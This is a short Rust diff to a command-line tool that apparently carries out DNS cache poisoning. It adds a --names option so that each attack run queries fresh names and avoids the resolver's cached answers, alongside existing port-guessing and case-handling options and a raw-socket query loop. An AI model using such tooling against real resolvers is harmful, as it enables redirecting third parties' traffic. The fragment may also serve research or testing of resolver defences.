@@ -56,6 +56,9 @@ struct Args {
     /// Guess the destination port in this range: LOW-HIGH.
     #[arg(long, default_value = "1024-65535", value_parser = ports)]
     ports: RangeInclusive<u16>,
+    /// First address of the names: an attack with names of a former one is answered from the cache.
+    #[arg(long, default_value_t = Ipv4Addr::new(32, 0, 0, 0))]
+    names: Ipv4Addr,
     /// Keep the case of the letters: for a server without mixed case.
     #[arg(long)]
     case_known: bool,
@@ -137,7 +140,7 @@ fn attack(args: &Args, raw: &Socket) -> anyhow::Result<Outcome> {
     let mut outcome = Outcome::default();
     let end = Instant::now() + Duration::from_secs(args.seconds);
     while Instant::now() < end {
-        let address = Ipv4Addr::from(0x2000_0000 + outcome.names as u32);
+        let address = Ipv4Addr::from_bits(args.names.to_bits().wrapping_add(outcome.names as u32));
         outcome.names += 1;
         let question = question(address);
         client.send(&query(&question, outcome.names as u16)).context("cannot send a query")?;
